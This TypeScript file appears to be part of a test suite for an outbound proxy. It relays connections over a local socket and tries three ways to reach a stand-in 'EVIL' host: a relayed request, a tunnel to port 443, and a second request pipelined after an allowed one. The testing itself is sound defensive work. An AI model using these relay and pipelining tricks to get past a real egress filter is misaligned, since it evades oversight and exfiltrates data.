import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { connect, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Attempt, Unsent } from "./case.ts";
import { type Door, type Plain, proxyDoor } from "./door.ts";
import { API, EVIL } from "./places.ts";

/** Asks by way of a program that passes bytes on to the proxy, and is thereby the one that the proxy sees. */
export function askRelayed(door: Door, request: Plain): Promise<void> {
  return relayed(door, async (relay) => void (await relay.ask(request)));
}

export const RELAYED: readonly Attempt[] = [
  {
    name: "another host by way of a relay",
    run: (door, mark) => askRelayed(door, { authority: EVIL, path: `/v1/${mark}` }),
  },
  {
    name: "a tunnel to another host by way of a relay",
    run: (door, mark) =>
      relayed(door, async (relay) => {
        const tunnel = await relay.tunnel(`${EVIL}:443`);
        if (tunnel.status === "open") tunnel.stream.end(mark);
      }),
  },
  {
    name: "a second request, for another host, on a connection that carried an allowed one",
    run: (door, mark) =>
      relayed(door, async (relay) => {
        const ask = (host: string, path: string) => `GET http://${host}${path} HTTP/1.1\r\nhost: ${host}\r\n\r\n`;
        await relay.raw(ask(API, "/v1/first") + ask(EVIL, `/v1/${mark}`));
      }),
  },
];

async function relayed(door: Door, use: (relay: Door) => Promise<void>): Promise<void> {
  const { dial } = door;
  if (dial === null) throw new Unsent("there is no connection to pass on");
  const directory = mkdtempSync(join(tmpdir(), "wd-relay-"));
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    void dial().then((onward) => {
      onward.on("error", () => socket.destroy()).once("close", () => socket.destroy());
      socket.pipe(onward).pipe(socket);
    });
  }).listen(join(directory, "s"));
  try {
    await once(server, "listening");
    await use(proxyDoor("relay", async () => connect(join(directory, "s"))));
  } finally {
    server.close();
    rmSync(directory, { recursive: true });
  }
}
